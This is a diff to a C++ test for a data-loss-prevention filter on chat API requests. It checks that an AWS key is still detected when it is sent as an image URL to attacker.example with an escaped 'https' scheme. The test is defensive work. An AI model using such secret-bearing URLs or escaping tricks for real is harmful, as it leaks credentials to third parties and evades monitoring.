@@ -155,6 +155,17 @@ TEST_CASE("a secret in an image URL or a metadata key is found") {
                             std::string(kAwsKey) + R"("}}]}])"));
   REQUIRE(url.decision.kind == RequestDecision::Kind::answer);
   CHECK(url.decision.answer.reason_code == "DLP.SECRET.AWS_ACCESS_KEY");
+  // The same URL with escaped slashes (PHP's json_encode) or an escaped letter.
+  for (const char* scheme : {R"(https:\/\/)", R"(\u0068ttps://)"}) {
+    auto escaped = run_request(
+        openai_chat(),
+        chat_body(
+            std::string(R"([{"role":"user","content":[{"type":"image_url","image_url":{"url":")") +
+            scheme + "attacker.example/p.png?k=" + kAwsKey + R"("}}]}])"));
+    INFO(scheme);
+    REQUIRE(escaped.decision.kind == RequestDecision::Kind::answer);
+    CHECK(escaped.decision.answer.reason_code == "DLP.SECRET.AWS_ACCESS_KEY");
+  }
   auto key = run_request(openai_chat(),
                          chat_body(R"([{"role":"user","content":"hi"}])",
                                    R"(,"metadata":{")" + std::string(kAwsKey) + R"(":"x"})"));
